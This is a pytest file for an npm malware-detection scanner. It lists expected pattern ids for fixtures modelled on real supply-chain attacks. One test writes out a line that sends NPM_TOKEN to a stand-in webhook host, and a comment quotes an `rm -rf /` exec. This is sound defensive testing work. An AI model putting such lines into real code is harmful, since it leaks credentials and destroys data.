"""Recall and benign fixtures: every recall case finds its pattern ids, every benign case is silent.

The fixtures are harmless re-creations (example.invalid endpoints, placeholder payloads); nothing
here executes them, the engine only reads them.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from gouvernante.heuristic import PATTERNS, scan_package_dir

FIXTURES = Path(__file__).parent / "fixtures"
RECALL = FIXTURES / "recall"
BENIGN = FIXTURES / "benign"

# case -> pattern ids that must be reported (at the given confidence)
EXPECTED: dict[str, dict[str, str]] = {
    "shai-hulud-1": {
        "GH-CRED-ENV-HARVEST": "high",
        "GH-CRED-SCANNER": "high",
        "GH-EXFIL-WEBHOOK": "high",
        "GH-EXFIL-GITHUB-REPO": "high",
        "GH-EXFIL-WORKFLOW-WRITE": "high",
        "GH-PROPAGATE-NPM-PUBLISH": "high",
        "GH-INSTALL-DOWNLOAD-EXEC": "medium",
    },
    "shai-hulud-2": {
        "GH-INSTALL-RUNTIME-DOWNLOAD": "high",
        "GH-INSTALL-FETCH-EXEC": "high",
        "GH-CRED-ENV-HARVEST": "high",
        "GH-EXFIL-GITHUB-REPO": "high",
        "GH-PERSIST-SERVICE": "high",
        "GH-SABOTAGE-WIPE": "high",
    },
    "mini-shai-hulud-bun": {"GH-INSTALL-RUNTIME-DOWNLOAD": "medium"},
    "nx-s1ngularity": {
        "GH-AI-AGENT-ABUSE": "high",
        "GH-EXFIL-GITHUB-REPO": "high",
        "GH-PERSIST-SHELL-RC": "high",
        "GH-SABOTAGE-SHUTDOWN": "high",
    },
    "chalk-debug-2025": {"GH-WALLET-HIJACK": "high"},
    "axios-plain-crypto-js-2026": {
        "GH-DECODE-CHARCODE-EXEC": "high",
        "GH-INSTALL-FETCH-EXEC": "high",
        "GH-INSTALL-SELF-DELETE": "high",
        "GH-INSTALL-DOWNLOAD-EXEC": "medium",
    },
    "eslint-config-prettier-2025": {
        "GH-INSTALL-LOLBIN": "high",
        "GH-OBFUSCATED-NAMES": "high",
    },
    "event-stream-flatmap-2018": {
        "GH-DECRYPT-EXEC": "high",
        "GH-OBFUSCATED-NAMES": "high",
    },
    "node-ipc-2022": {"GH-SABOTAGE-GEO": "high"},
    "protestware-timezone": {"GH-SABOTAGE-GEO": "high"},
    "protestware-locale": {"GH-SABOTAGE-GEO": "high"},
    "install-curl-pipe": {"GH-INSTALL-FETCH-EXEC": "high"},
    "install-node-e": {"GH-INSTALL-INLINE-EVAL": "high"},
    "decode-eval": {"GH-DECODE-EXEC": "high", "GH-DECODE-BLOB-EXEC": "medium"},
    "cred-file-harvest": {"GH-CRED-FILE-HARVEST": "high"},
    "persist-service": {"GH-PERSIST-SERVICE": "high"},
    # the scanner step outside the install scripts: downloaded, run on the home folder, sent out
    "secret-scanner-runtime": {"GH-CRED-SCANNER": "high"},
    # evasions of decision 0047's exemptions (decision 0051): the worm's commands kept in a
    # scripts table and run from there, the environment in a payload object, a prefix walk whose
    # else branch keeps every other variable
    "shai-hulud-publish-table": {"GH-PROPAGATE-NPM-PUBLISH": "high"},
    "s1ngularity-env-payload": {
        "GH-CRED-ENV-HARVEST": "high",
        "GH-INSTALL-DOWNLOAD-EXEC": "medium",
    },
    "env-walk-else": {"GH-CRED-ENV-HARVEST": "high"},
    # the same incidents' techniques spelled otherwise (decision 0068): none of these ids was
    # reported before, at any confidence (GH-INSTALL-FETCH-EXEC in shai-hulud-respelled was, by its
    # plain ``curl | bash``)
    "shai-hulud-respelled": {
        "GH-CRED-ENV-HARVEST": "high",
        "GH-CRED-SCANNER": "high",
        "GH-EXFIL-GITHUB-REPO": "high",
        "GH-EXFIL-WEBHOOK": "high",
        "GH-EXFIL-WORKFLOW-WRITE": "high",
        "GH-INSTALL-RUNTIME-DOWNLOAD": "high",
        "GH-OBFUSCATED-NAMES": "high",
        "GH-PERSIST-SERVICE": "high",
        "GH-PROPAGATE-NPM-PUBLISH": "high",
    },
    "nx-respelled": {"GH-PERSIST-SHELL-RC": "high", "GH-SABOTAGE-SHUTDOWN": "high"},
    "chalk-debug-respelled": {"GH-WALLET-HIJACK": "high"},
    "node-ipc-respelled": {"GH-SABOTAGE-GEO": "high"},
    "protestware-locale-respelled": {"GH-SABOTAGE-GEO": "high"},
    "flatmap-respelled": {"GH-DECRYPT-EXEC": "high", "GH-OBFUSCATED-NAMES": "high"},
    "plain-crypto-js-respelled": {
        "GH-DECODE-CHARCODE-EXEC": "high",
        "GH-INSTALL-FETCH-EXEC": "high",
        "GH-INSTALL-SELF-DELETE": "high",
    },
    "persist-service-respelled": {"GH-PERSIST-SERVICE": "high"},
}


def _cases(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.is_dir())


def test_every_recall_folder_has_expectations() -> None:
    assert set(_cases(RECALL)) == set(EXPECTED)


def test_every_pattern_has_a_recall_fixture() -> None:
    covered = {pid for ids in EXPECTED.values() for pid in ids}
    assert covered == set(PATTERNS)


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_recall(case: str) -> None:
    hits = scan_package_dir(str(RECALL / case))
    best: dict[str, str] = {}
    order = {"low": 0, "medium": 1, "high": 2}
    for h in hits:
        if order[h.confidence] >= order.get(best.get(h.pattern_id, "low"), 0):
            best[h.pattern_id] = h.confidence
    for pid, conf in EXPECTED[case].items():
        assert pid in best, f"{case}: {pid} not reported; got {sorted(best)}"
        assert order[best[pid]] >= order[conf], f"{case}: {pid} at {best[pid]}, want {conf}"
    for h in hits:
        assert h.package is not None and h.package.startswith("fixture-")
        assert h.version
        assert Path(h.file).is_file()
        assert h.line >= 1
        assert 0 < len(h.excerpt) <= 160
        assert h.title == PATTERNS[h.pattern_id].title


@pytest.mark.parametrize("case", _cases(BENIGN))
def test_benign(case: str) -> None:
    hits = scan_package_dir(str(BENIGN / case))
    assert hits == [], [(h.pattern_id, h.file, h.line, h.excerpt) for h in hits]


def test_binary_wrapper_is_reported_once_something_else_is_odd(tmp_path: Path) -> None:
    """The known-binary-wrapper exception holds only while nothing else is suspicious."""
    import shutil

    pkg = tmp_path / "esbuild"
    shutil.copytree(BENIGN / "binary-wrapper", pkg)
    with (pkg / "install.js").open("a") as fh:
        fh.write(
            '\nhttps.get("https://webhook.site.example.invalid/?t=" + process.env.NPM_TOKEN);\n'
        )
    ids = {h.pattern_id for h in scan_package_dir(str(pkg))}
    assert {"GH-INSTALL-DOWNLOAD-EXEC", "GH-EXFIL-WEBHOOK"} <= ids


def test_same_code_outside_install_scripts_is_weaker(tmp_path: Path) -> None:
    """Network + process spawning is only a finding when an install script runs the file."""
    import json
    import shutil

    pkg = tmp_path / "wrapper"
    shutil.copytree(BENIGN / "binary-wrapper", pkg)
    manifest = json.loads((pkg / "package.json").read_text())
    manifest["name"] = "not-a-known-wrapper"
    (pkg / "package.json").write_text(json.dumps(manifest))
    assert [h.pattern_id for h in scan_package_dir(str(pkg))] == ["GH-INSTALL-DOWNLOAD-EXEC"]
    del manifest["scripts"]
    (pkg / "package.json").write_text(json.dumps(manifest))
    assert scan_package_dir(str(pkg)) == []


REVIEW = FIXTURES / "review"
# Benign shapes that stay worth a look: reported, but only below high confidence (review items).
REVIEW_EXPECTED: dict[str, dict[str, str]] = {
    # reads workflow files, uses GITHUB_TOKEN, writes its own report: was high (critical)
    "ci-diagnostics": {"GH-EXFIL-WORKFLOW-WRITE": "medium"},
    # a deploy CLI's skip list of credential files, a tunnel host in its help: were high (critical)
    "deploy-cli-ignores": {"GH-CRED-FILE-HARVEST": "medium", "GH-EXFIL-WEBHOOK": "medium"},
    # install-reachable library (via the CLI the postinstall runs) naming where its daemon's
    # service unit lives, spawning the daemon: was high (unseen sample, 2026-12-04)
    "service-manager-cli": {"GH-PERSIST-SERVICE": "medium"},
    # an install step putting a toolchain's bin folder on PATH from ~/.zshrc, ~/.bashrc: was high
    "toolchain-path-installer": {"GH-PERSIST-SHELL-RC": "medium"},
    # runs the installed trufflehog on the working tree in a bundle with an update check: was high
    # (the runner alone, benign/secret-scan-command, is silent; @dotenvx/dotenvx, 2026-12-03)
    "scanner-cli-with-network": {"GH-CRED-SCANNER": "medium"},
    # a parser's test feeds it `require('child_process').exec('rm -rf /')` and asserts that it
    # throws: was high (critical) on bfj 9.1.4 (popular-packages sweep, 2026-12-06)
    "parser-injection-test": {"GH-SABOTAGE-WIPE": "medium"},
}


def test_every_review_folder_has_expectations() -> None:
    assert set(_cases(REVIEW)) == set(REVIEW_EXPECTED)


@pytest.mark.parametrize("case", sorted(REVIEW_EXPECTED))
def test_review_shapes_stay_below_high(case: str) -> None:
    hits = scan_package_dir(str(REVIEW / case))
    assert {h.pattern_id: h.confidence.value for h in hits} == REVIEW_EXPECTED[case]
